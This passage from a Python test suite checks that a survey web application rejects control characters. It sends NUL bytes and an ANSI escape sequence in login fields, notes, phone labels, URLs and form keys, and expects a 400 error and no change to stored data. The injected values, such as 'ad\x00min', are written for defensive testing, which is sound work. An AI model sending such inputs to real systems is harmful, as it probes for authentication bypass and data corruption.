        world.url_values["case_id"][0],
        world.url_values["case_id"][1],
    )
    token = world.url_values["token"][0]
    return [
        (ANON, "POST", "/login", {"username": "ad\x00min", "password": "x"}),
        (ANON, "POST", "/login", {"username": "admin1", "password": TEST_PASSWORD + "\x00"}),
        ("interviewer", "POST", f"/cati/case/{claimed}/notes", {"notes": "Pani\x00Anna"}),
        ("interviewer", "POST", f"/cati/case/{claimed}/outcome", {"note": "a\x00b"}),
        (
            "interviewer",
            "POST",
            f"/cati/case/{claimed}/phones",
            {"number": "602 333 444", "label": "sekretariat\x1b[31m"},
        ),
        (
            "supervisor",
            "POST",
            f"/supervise/{open_fw}/case/{other}/exclusion",
            {"action": "exclude", "reason": "powód\x00"},
        ),
        ("admin", "GET", "/admin/audit?actor=a%00b", {}),
        (ANON, "GET", f"/r/{token}%00", {}),
        (RESPONDENT, "POST", f"/r/{token}/start", {"x\x00": "1"}),
    ]


def test_control_characters_are_refused_at_the_boundary_and_change_nothing(world) -> None:
    for identity, method, url, form in _nul_requests(world):
        client = _client(world.app, world.cookies[identity])
        data = {"csrf_token": client.csrf_token(), **form} if method == "POST" else None
        response = client.open(url, method=method, data=data)
        text = page_text(response)
        assert response.status_code == 400, (url, response.status_code, text[:300])
        assert "znak sterujący" in text, (url, text[:300])
        assert differences(world.baseline, snapshot(world)) == [], url
    # tab and line breaks are ordinary text in a note
    client = _client(world.app, world.cookies["interviewer"])
    claimed = world.url_values["case_id"][0]
    saved = client.post(f"/cati/case/{claimed}/notes", data={"notes": "a\tb\r\nc"})
    assert saved.status_code == 302, page_text(saved)[:300]
